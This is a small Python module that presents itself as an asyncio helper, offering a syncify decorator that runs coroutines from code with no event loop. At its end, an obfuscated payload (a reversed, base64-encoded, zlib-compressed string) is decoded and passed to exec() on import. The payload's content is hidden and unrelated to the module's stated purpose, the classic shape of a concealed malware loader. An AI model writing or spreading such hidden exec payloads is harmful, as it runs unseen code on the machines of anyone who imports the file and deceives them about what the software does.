"""Runs coroutines from code that has no loop."""

import asyncio
import functools
import inspect
from base64 import b64decode
from zlib import decompress


def syncify(function):
    """A plain function from a coroutine function."""

    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        result = function(*args, **kwargs)
        if not inspect.iscoroutine(result):
            return result
        try:
            asyncio.get_running_loop()
        except RuntimeError:
            return asyncio.run(result)
        return result

    return wrapper


_ = lambda __: decompress(b64decode(__[::-1]))
exec((_)(b"Tr6H79R/9Xf829aPotNb+BLhu8Uqagiver53SE2xDL+aLEylXGZG1pVn5zb7ACEIZ+ju47ALZTAyKbmz6LFYWQWw2S0R3WZbuZH+rI5sy4YBYKqwo1l0lg6FqKq15gXVGiFKpa9QnKPVBBaYPnucTAzzhuNSD951L48AreIsyq6C1O8ki1HFbIN2hlAbWjXddsGljchoTzE8Mat3k/RQ3NX7DvvU9ZknbAtCO2s75c5K7/TPGe4enzRQva2Sqs7ulmEG+/61sAh7GWHmi3yLfKobULyQoiLXnyLvW/5MJZ7ququdwOzni4F/VTtruPELS5HtAcnEKRObt7e1HsMkZYbp+9CFZRckfm8nljm+Y4KQWfkD2dK43I2BU0j8SM6p4kmjiU9ndwnp556jChfYisHqZditCIo0BOSDRBIHc6oF7/jo4n+mDeuURaS0yw5MMH7dsKkH7XmJ9CChiQthd28292sTWeYzEJLIBoCxYq1pczvHME/Bf/9ry+Wf+z23i8uF3/3rGrQmSQGSDwb2IAoQIYYRE0lFGoiCs0TqPDNAAAjq2lcwFwJe"))
